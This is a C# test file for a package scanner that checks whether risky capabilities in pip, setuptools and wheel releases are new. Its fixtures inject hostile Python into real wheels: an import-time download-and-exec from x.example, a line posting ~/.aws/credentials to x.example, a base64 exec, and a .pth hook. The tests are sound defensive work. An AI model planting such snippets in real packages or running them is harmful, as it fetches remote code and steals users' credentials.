using System.Text;
using TrustCheck.Artifacts.Analysis;
using TrustCheck.Artifacts.Capabilities;
using TrustCheck.Artifacts.Findings;
using TrustCheck.Artifacts.Surface;
using TrustCheck.TestKit.Artifacts;

namespace TrustCheck.Artifacts.Tests.Analysis;

/// <summary>
/// "New" judged per module, per place and by content: a compromised pip or setuptools release is not hidden by the
/// capabilities the project always had, and a second poisoned release does not launder the first.
/// </summary>
public sealed class NoveltyTests
{
    private const string Pip = "pip-25.0.1-py3-none-any.whl";
    private const string PipPrevious = "pip-24.2-py3-none-any.whl";
    private const string Setuptools = "setuptools-67.6.1-py3-none-any.whl";
    private const string SetuptoolsPrevious = "setuptools-65.5.0-py3-none-any.whl";

    [Fact]
    public void NewPipModuleStartingADownloadAtImport_IsHighThoughPipAlwaysStartedProcesses()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Pip), (_, bytes) => bytes,
            ("pip/_internal/utils/_compat2.py", "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import urllib.request as u; exec(u.urlopen(\"https://x.example/p\").read())'])\n"u8.ToArray()));

        var finding = Assert.Single(Analyze(Pip, poisoned, PipPrevious), f => f.Code == CapabilityCodes.NewCapability && f.Evidence["member"] == "pip/_internal/utils/_compat2.py");

        Assert.Equal((ArtifactSeverity.High, "had-it", "import-time"), (finding.Severity, finding.Evidence["project"], finding.Evidence["location"]));
    }

    [Fact]
    public void CredentialSendAtImportInAModuleThatOnlyDidItInsideFunctions_IsNew()
    {
        var poisoned = PoisonedBuild.Wheel(RealWheels.Bytes(Pip), (path, bytes) => path == "pip/_vendor/distlib/util.py"
            ? [.. bytes, .. "\nurlopen('https://x.example/c', data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n"u8]
            : bytes);

        var findings = Analyze(Pip, poisoned, PipPrevious).Where(f => f.Code == CapabilityCodes.CredentialExfiltration).ToList();

        Assert.Contains(findings, f => f.Evidence["novelty"] == "new" && f.Severity >= ArtifactSeverity.High);
        Assert.Contains(findings, f => f.Evidence["novelty"] == "unchanged" && f.Severity == ArtifactSeverity.Info);
    }

    [Fact]
    public void ChangedPthAndReplacedLauncher_AreChangedAndHigh()
    {
        var pth = PoisonedBuild.Wheel(RealWheels.Bytes(Setuptools), (path, bytes) => path == "distutils-precedence.pth" ? [.. bytes, .. "\nimport _distutils_hack_ext\n"u8] : bytes);
        var launcher = PoisonedBuild.Wheel(RealWheels.Bytes(Pip), (path, bytes) => path == "pip/_vendor/distlib/t64.exe" ? [.. bytes, 0x90, 0x90] : bytes);

        var changedPth = Assert.Single(Analyze(Setuptools, pth, SetuptoolsPrevious), f => f.Code == SurfaceCodes.ExecutingPth);
        var changedLauncher = Assert.Single(Analyze(Pip, launcher, PipPrevious), f => f.Code == SurfaceCodes.NativeCode && f.Evidence["member"] == "pip/_vendor/distlib/t64.exe");

        Assert.Equal(("changed", ArtifactSeverity.High), (changedPth.Evidence["novelty"], changedPth.Severity));
        Assert.Equal(("changed", ArtifactSeverity.High), (changedLauncher.Evidence["novelty"], changedLauncher.Severity));
    }

    [Fact]
    public void PayloadTheBaselineAlreadyCarried_IsNotLaunderedBelowMedium()
    {
        var payload = Encoding.UTF8.GetBytes("\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n");
        var first = PoisonedBuild.Wheel(RealWheels.Bytes("wheel-0.40.0-py3-none-any.whl"), (path, bytes) => path == "wheel/__init__.py" ? [.. bytes, .. payload] : bytes);
        var second = PoisonedBuild.Wheel(RealWheels.Bytes("wheel-0.43.0-py3-none-any.whl"), (path, bytes) => path == "wheel/__init__.py" ? [.. bytes, .. payload] : bytes);

        var exec = Assert.Single(ArtifactAnalyzer.Analyze(new ArtifactInput("wheel-0.43.0-py3-none-any.whl", second), new ArtifactInput("wheel-0.40.0-py3-none-any.whl", first)).Findings,
            f => f.Code == CapabilityCodes.DecodedExecution);

        Assert.Equal(("unchanged", ArtifactSeverity.Medium), (exec.Evidence["novelty"], exec.Severity));
    }

    [Fact]
    public void TruncatedBaseline_IsReportedNotSilentlyEmpty()
    {
        var baseline = RealWheels.Bytes("wheel-0.40.0-py3-none-any.whl");

        var findings = ArtifactAnalyzer.Analyze(RealWheels.Input("wheel-0.43.0-py3-none-any.whl"), new ArtifactInput("wheel-0.40.0-py3-none-any.whl", baseline.AsMemory(0, baseline.Length / 2))).Findings;

        Assert.Contains(findings, f => f.Code == AnalysisCodes.BaselineIncomplete && f.Severity == ArtifactSeverity.Medium);
    }

    private static IReadOnlyList<ArtifactFinding> Analyze(string file, byte[] poisoned, string previous) =>
        ArtifactAnalyzer.Analyze(new ArtifactInput(file, poisoned), RealWheels.Input(previous)).Findings;
}
